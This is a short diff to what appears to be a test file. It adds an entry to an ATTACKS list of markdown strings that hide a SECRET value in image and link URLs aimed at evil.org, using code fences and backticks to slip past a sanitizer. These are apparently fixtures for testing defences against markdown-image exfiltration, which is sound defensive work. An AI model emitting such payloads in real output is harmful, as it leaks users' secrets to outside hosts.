@@ -94,6 +94,7 @@ ATTACKS = [
     f"# ![x](https://evil.org/{SECRET})\n- ![x](https://evil.org/{SECRET})\n> [x](https://evil.org/{SECRET})",
     f"`` ` ``![x](https://evil.org/{SECRET})`",
     f"```mermaid\ngraph LR; A-->B[<img src='x'>]\n```\n![x](https://evil.org/{SECRET})",
+    f"www.evil.org`![x](https://evil.org/{SECRET})`www.evil.org",
     f"a ```www.evil.org/{SECRET}",
     f"![x](https://evil.org/?q={SECRET})```www.evil.org/{SECRET}",
     f"~~~\n```\n~~~\n![x](https://evil.org/{SECRET})",
